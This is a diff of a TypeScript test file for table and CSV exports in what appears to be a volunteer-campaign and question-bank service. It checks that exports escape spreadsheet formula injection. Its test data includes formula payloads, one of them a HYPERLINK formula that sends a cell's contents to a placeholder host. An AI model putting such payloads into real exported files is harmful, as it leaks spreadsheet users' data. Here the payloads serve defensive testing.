@@ -6,7 +6,14 @@ import { freshPhone, PHONES, signedIn, type Client } from '../helpers';
 const EVIL = ['=HYPERLINK("http://e.x/"&A1,"点我")', '+1+1', '@SUM(A1:A9)', '-2+3'];
 
 async function volunteer(org: Client) {
-  const r = await org.post('/api/v1/campaigns', { kind: 'volunteer', title: '导出测试', orgUnitId: 'root', settings: { pairCap: 10 }, startsAt: new Date(Date.now() - 864e5).toISOString(), endsAt: new Date(Date.now() + 864e5).toISOString() });
+  const r = await org.post('/api/v1/campaigns', {
+    kind: 'volunteer',
+    title: '导出测试',
+    orgUnitId: 'root',
+    settings: { pairCap: 10 },
+    startsAt: new Date(Date.now() - 864e5).toISOString(),
+    endsAt: new Date(Date.now() + 864e5).toISOString(),
+  });
   const id = r.body.campaign.id as string;
   await org.post(`/api/v1/campaigns/${id}/publish`);
   return id;
@@ -41,7 +48,9 @@ describe('table downloads', () => {
     expect(names.map((c) => c.v).sort()).toEqual([...EVIL].sort());
     expect(names.every((c) => c.t === 's')).toBe(true);
     // 登记时间 (column H): a number with a date format whose value is the China wall clock
-    const rows = await env.DB.prepare('SELECT resident_name, created_at FROM volunteer_pairs WHERE campaign_id = ?').bind(id).all<{ resident_name: string; created_at: string }>();
+    const rows = await env.DB.prepare('SELECT resident_name, created_at FROM volunteer_pairs WHERE campaign_id = ?')
+      .bind(id)
+      .all<{ resident_name: string; created_at: string }>();
     for (let r = 2; r <= EVIL.length + 1; r++) {
       const name = ws[`D${r}`].v as string;
       const when = ws[`H${r}`] as { t: string; v: number; z?: string };
@@ -57,12 +66,20 @@ describe('table downloads', () => {
   it('a question bank exported to CSV is escaped and imports back to the same text', async () => {
     const org = await signedIn(PHONES.rootOrganizer);
     const bank = (await org.post('/api/v1/question-banks', { title: '公式题库', orgUnitId: 'root' })).body.bank.id as string;
-    const csv = ['题型,题干,选项A,选项B,选项C,选项D,答案,解析,标签,难度', ...EVIL.map((s, i) => `单选,"${s.replace(/"/g, '""')}",甲${i},乙,,,A,,,易`)].join('\n');
-    expect((await org.call('POST', `/api/v1/question-banks/${bank}/import`, csv, { 'content-type': 'text/csv' })).body).toMatchObject({ imported: 4, errors: [] });
+    const csv = ['题型,题干,选项A,选项B,选项C,选项D,答案,解析,标签,难度', ...EVIL.map((s, i) => `单选,"${s.replace(/"/g, '""')}",甲${i},乙,,,A,,,易`)].join(
+      '\n',
+    );
+    expect((await org.call('POST', `/api/v1/question-banks/${bank}/import`, csv, { 'content-type': 'text/csv' })).body).toMatchObject({
+      imported: 4,
+      errors: [],
+    });
     const out = await org.get(`/api/v1/question-banks/${bank}/export?format=csv`);
     for (const s of EVIL.slice(1)) expect(out.text).toContain(`"'${s}"`);
     const copy = (await org.post('/api/v1/question-banks', { title: '再导入', orgUnitId: 'root' })).body.bank.id as string;
-    expect((await org.call('POST', `/api/v1/question-banks/${copy}/import`, out.text, { 'content-type': 'text/csv' })).body).toMatchObject({ imported: 4, errors: [] });
+    expect((await org.call('POST', `/api/v1/question-banks/${copy}/import`, out.text, { 'content-type': 'text/csv' })).body).toMatchObject({
+      imported: 4,
+      errors: [],
+    });
     const stems = await env.DB.prepare('SELECT stem FROM questions WHERE bank_id = ?').bind(copy).all<{ stem: string }>();
     expect(stems.results.map((r) => r.stem).sort()).toEqual([...EVIL].sort());
   });
